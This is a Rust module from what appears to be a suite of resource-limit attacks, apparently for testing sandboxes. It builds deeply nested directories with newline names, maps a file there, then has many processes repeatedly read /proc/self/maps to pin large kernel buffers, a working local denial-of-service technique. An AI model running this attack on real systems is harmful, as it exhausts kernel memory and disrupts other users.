//! An attack that opens the map of a process's memory again and again. For each time the kernel keeps a buffer for its longest
//! line, which is long if a mapped file has a long path.

use std::fs::{self, File};
use std::io::{self, Read};
use std::path::Path;

use rustix::mm::{MapFlags, ProtFlags, mmap};

use super::kernel_memory::{HOLD, hold_in_processes, raise_limit};
use super::outcome::AttackOutcome;
use super::target::AttackTarget;

/// Nested folders, and their name: a map has four bytes for each of its characters.
const DEPTH: usize = 130;

const NAME: &str = "\n";

const NAME_LENGTH: usize = 250;

/// Processes that have the map open, and how often each has.
const READERS: usize = 6;

const TIMES: usize = 110;

/// Opens the map of this process in many others, when it has a line of 130 KB.
pub(super) fn open_maps(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let path = format!("/proc/{}/maps", std::process::id());
    let open = || {
        let mut maps = File::open(&path)?;
        // The kernel writes lines until one is whole.
        maps.read_exact(&mut [0; 1 << 12])?;
        io::copy(&mut maps, &mut io::sink())?;
        Ok(maps)
    };
    let opened = map_file_with_long_path().and_then(|()| hold_in_processes(READERS, TIMES, open));
    std::thread::sleep(HOLD);
    AttackOutcome::from_result(opened, |maps| format!("{maps} maps with long lines are open"))
}

/// Maps a file in nested folders, which are removed again: the map keeps their names.
fn map_file_with_long_path() -> io::Result<()> {
    let (name, file) = (NAME.repeat(NAME_LENGTH), Path::new("mapped"));
    for _ in 0..DEPTH {
        fs::create_dir(&name)?;
        std::env::set_current_dir(&name)?;
    }
    fs::write(file, "mapped")?;
    let mapped = map(&File::open(file)?);
    fs::remove_file(file)?;
    for _ in 0..DEPTH {
        std::env::set_current_dir("..")?;
        fs::remove_dir(&name)?;
    }
    mapped
}

fn map(file: &File) -> io::Result<()> {
    #[expect(unsafe_code, reason = "a mapping has no safe type")]
    // SAFETY: the kernel chooses an address that is not in use, and nothing refers to the mapping.
    unsafe {
        mmap(std::ptr::null_mut(), 1, ProtFlags::READ, MapFlags::PRIVATE, file, 0)?;
    }
    Ok(())
}
